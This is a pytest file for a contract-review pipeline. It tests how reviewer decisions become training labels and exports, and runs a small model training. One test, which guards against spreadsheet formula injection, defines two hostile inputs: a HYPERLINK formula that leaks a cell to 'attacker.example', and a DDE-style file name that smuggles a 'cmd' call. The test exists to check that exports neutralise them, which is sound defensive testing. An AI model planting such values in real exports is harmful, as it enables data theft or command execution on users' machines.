"""Reviewers' decisions as training data: `clausemill review export --training` writes them in
the CUAD span format, and training reads them as labels only where someone decided."""
from __future__ import annotations

import csv
import json
from datetime import datetime, timedelta
from pathlib import Path

import numpy as np
import pytest

from conftest import run_cli, sqlite_url
from pipelines.review.export import training_labels
from pipelines.review.queue import claim_next, decide
from pipelines.samples import generate_contract
from storage import schema
from storage.database import session_scope

pytest.importorskip("torch", reason="the model extra (torch, transformers) is not installed")

from models.corpus import LabelledDocument, load_reviewed  # noqa: E402
from models.training import TrainSettings, _sample_rows  # noqa: E402


def test_what_each_decision_teaches() -> None:
    span = (10, 50)
    assert training_labels("accept", None, "Cap", span, {}) == [("Cap", 10, 50, True)]
    assert training_labels("correct", None, "Cap", span, {"value": "1x fees"}) == [("Cap", 10, 50, True)]
    assert training_labels("reject", "not_a_clause", "Cap", span, {}) == [("Cap", 10, 50, False)]
    assert training_labels("reject", "ocr_error", "Cap", span, {}) == []
    assert training_labels("correct", None, "Cap", span, {"category": "Insurance"}) == [
        ("Insurance", 10, 50, True), ("Cap", 10, 50, False)]
    assert training_labels("correct", None, "Cap", span, {"start": 12, "end": 40}) == [("Cap", 12, 40, True)]


def synthetic(seed: int, reviewed: tuple[tuple[int, int], ...] | None = None) -> LabelledDocument:
    contract = generate_contract(seed, short=True)
    spans = tuple((c, s, e) for c, (s, e) in contract.clause_spans.items())
    if reviewed is not None:
        spans = spans[:1]
    return LabelledDocument(f"synthetic-{seed}.txt", contract.text, spans, reviewed)


def test_training_labels_a_reviewed_document_only_where_someone_decided() -> None:
    full = [synthetic(seed) for seed in range(4)]
    first = full[0].spans[0]
    partial = synthetic(0, reviewed=((first[1], first[2]),))
    settings, categories = TrainSettings(), tuple(sorted({c for d in full for c, _, _ in d.spans}))
    alone = _sample_rows(full, categories, settings, np.random.default_rng(0))
    both = _sample_rows([*full, partial], categories, settings, np.random.default_rng(0))
    # the fully annotated documents are drawn and sampled exactly as without the reviewed one
    assert both.calibration[: len(alone.calibration)].tolist() == alone.calibration.tolist()
    assert both.texts[: len(alone.texts)] == alone.texts
    extra = np.flatnonzero(both.document == len(full))
    kept = partial.reviewed_segments(partial.segments())
    assert len(extra) == len(kept) > 0 and not both.calibration[extra].any()
    assert bool(both.labels[extra][:, categories.index(first[0])].any())


def test_decisions_export_as_training_data(audited_env: dict[str, str], tmp_path: Path) -> None:
    url = sqlite_url(audited_env)
    now = datetime(2026, 12, 1, 9)
    decided: list[tuple[str, int, int, str]] = []
    with session_scope(url) as session:
        for step, action in enumerate(("accept", "reject")):
            item = claim_next(session, "ann", now + timedelta(minutes=step), 900)
            assert item is not None and item.evidence["end"] > item.evidence["start"]
            decide(session, item.id, "ann", action, item.version, now + timedelta(minutes=step, seconds=30),
                   reason="not_a_clause" if action == "reject" else None)
            decided.append((item.category, item.evidence["start"], item.evidence["end"], item.evidence["text"]))
            filename = session.get(schema.Document, item.document_id).filename
    out = tmp_path / "reviewed"
    result = run_cli(["review", "export", "--training", "--out", str(out)], audited_env)
    assert result.returncode == 0, result.stdout + result.stderr
    rows = [json.loads(line) for line in (out / "spans.jsonl").read_text().splitlines()]
    assert {(r["category"], r["start"], r["end"], r["label"]) for r in rows} == {
        (c, s, e, label) for (c, s, e, _), label in zip(decided, (True, False))}
    documents = load_reviewed(out)
    assert filename in {d.name for d in documents}
    by_span = {(r["start"], r["end"]): r for r in rows}
    for document in documents:
        for start, end in document.reviewed:
            # the text is the one the pipeline read, so the reviewer's quote sits at its offsets
            assert " ".join(document.text[start:end].split()) == " ".join(by_span[start, end]["text"].split())
    quotes = {" ".join(q.split()) for *_, q in decided}
    assert quotes <= {" ".join(r["text"].split()) for r in rows}
    assert sum(len(d.spans) for d in documents) == 1  # the accepted one; the rejected one is a negative


HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
HOSTILE_NAME = "=1+2+cmd|' -c calc'!A0.txt"


def test_exports_write_formula_cells_as_text(audited_env: dict[str, str], tmp_path: Path) -> None:
    """A reviewer's comment and a file name are anyone's text: in the decisions CSV and the
    training export's files.csv they start with an apostrophe, so a spreadsheet shows them."""
    url = sqlite_url(audited_env)
    now = datetime(2026, 12, 2, 9)
    with session_scope(url) as session:
        item = claim_next(session, "ann", now, 900)
        assert item is not None
        decide(session, item.id, "ann", "reject", item.version, now + timedelta(seconds=30), reason="not_a_clause",
               comment=HYPERLINK)
        session.get(schema.Document, item.document_id).filename = HOSTILE_NAME
    assert run_cli(["review", "export", "--out", str(tmp_path / "decisions.csv")], audited_env).returncode == 0
    [row] = [r for r in csv.DictReader((tmp_path / "decisions.csv").open(encoding="utf-8")) if r["comment"] != ""]
    assert (row["comment"], row["filename"]) == ("'" + HYPERLINK, "'" + HOSTILE_NAME)
    assert json.loads(row["previous"])["category"] == item.category  # JSON cells start with "{": left as they are
    result = run_cli(["review", "export", "--training", "--out", str(tmp_path / "reviewed")], audited_env)
    assert result.returncode == 0, result.stdout + result.stderr
    [entry] = list(csv.DictReader((tmp_path / "reviewed" / "files.csv").open(encoding="utf-8")))
    assert entry["pdf"] == "'" + HOSTILE_NAME
    assert (tmp_path / "reviewed" / entry["txt"]).exists()  # the cell is text; the file it names is written


def test_a_model_trains_with_reviewed_documents_beside_annotated_ones(tmp_path: Path) -> None:
    from models.checkpoint import load_checkpoint
    from models.config import ModelConfig
    from models.finetuning import FineTuneSettings
    from models.fitting import FitSettings
    from models.training import train_on_documents

    first = synthetic(5).spans[0]
    documents = [synthetic(seed) for seed in range(4)] + [synthetic(5, reviewed=((first[1], first[2]),))]
    settings = TrainSettings(fit=FitSettings(lexical_iterations=10, linear_epochs=2, router_epochs=2, expert_epochs=1),
                             negative_rate=0.3, router_folds=2, finetune=FineTuneSettings(epochs=0))
    out = tmp_path / "tiny.safetensors"
    report = train_on_documents(documents, out, config=ModelConfig(rank=8, router_hidden=32, max_length=64),
                                settings=settings, device="cpu", log=lambda _: None)
    assert load_checkpoint(out).version == report.version
